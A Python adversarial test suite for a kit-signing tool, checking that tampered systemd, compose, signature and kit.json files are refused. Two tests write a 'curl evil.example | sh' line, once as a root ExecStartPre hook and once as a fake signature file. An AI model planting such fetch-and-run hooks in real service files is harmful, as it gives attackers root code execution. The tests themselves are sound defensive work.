"""Attacks on what a verb finds in place: kit files it renders or uses that nothing checked.

``render-site`` turns kit files into a systemd unit run by root, a compose file and Kubernetes
objects; an attacker who can write the kit folder edits one of those files (and recomputes the
manifest so the kit looks self-consistent). Each verb verifies the kit against the signed receipt
before it uses a kit file, so these are refused (exit 1) and nothing is written.
"""

from __future__ import annotations

from pathlib import Path

from k3kit.formats.manifest import build_manifest, manifest_bytes
from tests.adversarial.corpus import Argv, Workbench, attack

UNIT = "profiles/interactive/single-node-8gpu/systemd/k3kit-kimi-k3-b300x8-interactive.service"
COMPOSE = "profiles/interactive/single-node-8gpu/compose.yaml"
SITE = "MODEL_DIR=/srv/models/kimi\nIMAGE=r.example/k3kit@sha256:" + "b" * 64 + "\n"


def _render(w: Workbench, kit: Path) -> Argv:
    site = w.root / "site.env"
    site.write_text(SITE)
    return ["render-site", kit, "--trust", w.trust, "--site", site, "-o", w.root / "out"]


def _edit(kit: Path, rel: str, old: str, new: str, *, update_manifest: bool) -> None:
    path = kit / rel
    path.write_text(path.read_text().replace(old, new, 1))
    if update_manifest:
        (kit / "MANIFEST.json").write_bytes(manifest_bytes(build_manifest(kit)))


@attack("RECEIPT_KIT_MISMATCH")
def render_site_with_root_exec_start_pre_and_recomputed_manifest(w: Workbench) -> Argv:
    """An ``ExecStartPre=`` that runs as root before the unit's own verify."""
    kit = w.kit()
    hook = "ExecStartPre=/bin/sh -c 'curl -s http://evil.example/x | sh'\n"
    _edit(kit, UNIT, "ExecStartPre=", hook + "ExecStartPre=", update_manifest=True)
    return _render(w, kit)


@attack("KIT_FILE_CHANGED")
def render_site_with_privileged_compose_service(w: Workbench) -> Argv:
    kit = w.kit()
    _edit(kit, COMPOSE, "services:", "services:\n  # privileged: true", update_manifest=False)
    return _render(w, kit)


@attack("RECEIPT_UNTRUSTED_KEY")
def render_site_of_a_kit_signed_by_another_key(w: Workbench) -> Argv:
    argv = list(_render(w, w.kit()))
    argv[argv.index("--trust") + 1] = w.other_key.public
    return argv


# --- MANIFEST.json.sig: unlisted, so it must verify or the kit does not -----------------------


def _sig_by(w: Workbench, private: Path) -> Path:
    from tests.conftest import run_k3kit

    kit = w.kit()
    proc = run_k3kit("sshsig", kit, "--key", private, "--force")
    assert proc.returncode == 0, proc.stderr
    return kit


@attack("SSHSIG_INVALID")
def install_kit_folder_with_manifest_sig_forged_by_another_key(w: Workbench) -> Argv:
    """The attacker signs the genuine MANIFEST.json with their own key and ships the .sig along:
    it would ride into the installed kit as if it were the publisher's."""
    kit = _sig_by(w, w.other_key.private)
    return ["install", kit, "--trust", w.trust, "--into", w.root / "kits"]


@attack("SSHSIG_INVALID")
def verify_kit_with_a_script_in_place_of_manifest_sig(w: Workbench) -> Argv:
    kit = w.kit()
    (kit / "MANIFEST.json.sig").write_text("#!/bin/sh\ncurl -s http://evil.example/x | sh\n")
    return ["verify", kit, "--trust", w.trust]


# --- preflight: requirements read from the kit only once it verified -------------------------


@attack("RECEIPT_KIT_MISMATCH")
def preflight_with_kit_json_lowered_to_one_h200_and_recomputed_manifest(w: Workbench) -> Argv:
    """kit.json edited to ask for one H200 (the kit is measured on 8x B300): without the receipt
    check, this node would PASS."""
    kit = w.kit()
    info = kit / "kit.json"
    data = info.read_bytes().replace(b'"gpus_per_node":8', b'"gpus_per_node":1')
    data = data.replace(b'"gpu_memory_gb":288', b'"gpu_memory_gb":140')
    info.write_bytes(data.replace(b'"gpu_name_pattern":"B300"', b'"gpu_name_pattern":"H200"'))
    (kit / "MANIFEST.json").write_bytes(manifest_bytes(build_manifest(kit)))
    xml = Path(__file__).parents[1] / "data" / "preflight" / "h200x1.synthetic.xml"
    return ["preflight", kit, "--trust", w.trust, "--profile", "batch", "--nvidia-smi-xml", xml]
